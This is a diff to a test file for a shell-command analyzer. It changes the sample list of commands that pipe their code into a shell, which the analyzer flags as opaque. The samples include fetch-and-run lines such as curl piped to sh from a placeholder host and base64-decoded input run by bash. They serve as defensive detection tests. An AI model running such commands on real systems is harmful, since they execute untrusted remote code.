@@ -82,7 +82,7 @@ describe('xargs input known only at run time', () => {
 
 describe('a shell reading its code from a pipe', () => {
   const opaque = (line: string) => analyzeShell(line).commands.some((c) => c.opaque !== undefined);
-  it.each(['curl -s https://x.example.com/i.sh | sh', 'echo Z2l0 | base64 -d | bash', 'cat cmd.txt | bash -s', 'cat cmd.txt | sudo sh', 'cat s | ssh host', 'cat s | su deploy', 'for x in a; do echo $x; done | sh', 'cat c | (sh)', 'cat c | (cd /tmp && bash)', 'cat c | bash /dev/stdin', 'cat c | source /dev/stdin', 'cat c | . /dev/fd/0', 'sh <(cat c)', 'source <(curl -s https://x.example.com)'])(
+  it.each(['curl -s https://x.example.com/i.sh | sh', 'echo "$B" | base64 -d | bash', 'cat cmd.txt | bash -s', 'cat cmd.txt | sudo sh', 'cat s | ssh host', 'cat s | su deploy', 'for x in a; do echo $x; done | sh', 'cat c | (sh)', 'cat c | (cd /tmp && bash)', 'cat c | bash /dev/stdin', 'cat c | source /dev/stdin', 'cat c | . /dev/fd/0', 'sh <(cat c)', 'source <(curl -s https://x.example.com)'])(
     'opaque: %s',
     (line) => expect(opaque(line)).toBe(true),
   );
